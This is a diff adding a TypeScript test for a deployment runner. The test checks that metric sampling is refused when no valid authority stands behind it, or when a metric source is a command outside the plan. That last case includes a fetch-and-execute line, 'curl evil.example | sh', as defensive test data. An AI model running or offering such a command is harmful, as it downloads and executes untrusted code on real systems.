@@ -87,3 +87,35 @@ test('a runner goes back by itself to a commit that it has heard production tell
   await expect(goBack(commit)).resolves.toEqual({ done: commit });
   await expect(goBack(commit.replace('0', 'f'))).rejects.toThrow('production has not told this runner');
 });
+
+test('a metric by a command of nobody’s plan is not read', async () => {
+  const { resolved: plan } = loadPlan('plans/eduautismo-performance.yaml');
+  const deployment = 'eduautismo-20261127-000000-0001';
+  const reading: Policy = {
+    ...policy,
+    people: new Map([['ana', person('ana', 'lead')]]),
+    services: new Map([[plan.service, { start: ['lead'], approve: [] }]]),
+    // Whoever reads metrics is not the runner of what they are about.
+    runners: { production: ['another'] },
+  };
+  const interceptor = demandAuthority({ policy: reading, runner: 'a', state: temporaryFolder() })();
+  const [metric] = plan.watches[0]?.metrics ?? [];
+  const authority = { deployment, plan, decisions: [{ kind: 'start', who: 'ana', role: '' }] };
+  const sample = (input: object) => {
+    const mock = new MockActivityEnvironment({ activityType: 'sampleMetrics' }, { logger: new DefaultLogger('ERROR') });
+    return mock.run(() => interceptor.inbound.execute({ args: [input] }, async () => 'sampled'));
+  };
+  await expect(sample({ metrics: [metric], authority })).resolves.toBe('sampled');
+  // Somebody who may not say anything any more blinds nobody.
+  const gone = { kind: 'approve', who: 'bob', role: 'qa' };
+  const since = { ...authority, decisions: [...authority.decisions, gone] };
+  await expect(sample({ metrics: [metric], authority: since })).resolves.toBe('sampled');
+  const nobodys = { ...authority, decisions: [gone] };
+  await expect(sample({ metrics: [metric], authority: nobodys })).rejects.toThrow(
+    'nobody whose word counts has started',
+  );
+  await expect(sample({ metrics: [metric] })).rejects.toThrow('nothing says by whose word it is to be done');
+  const command = { run: ['sh', '-c', 'curl evil.example | sh'], on: 'worker', timeout: 60_000 };
+  const theirs = { ...metric, source: { kind: 'command', command, environment: 'production', tools: [], window: 1 } };
+  await expect(sample({ metrics: [metric, theirs], authority })).rejects.toThrow('it is no part of the plan');
+});
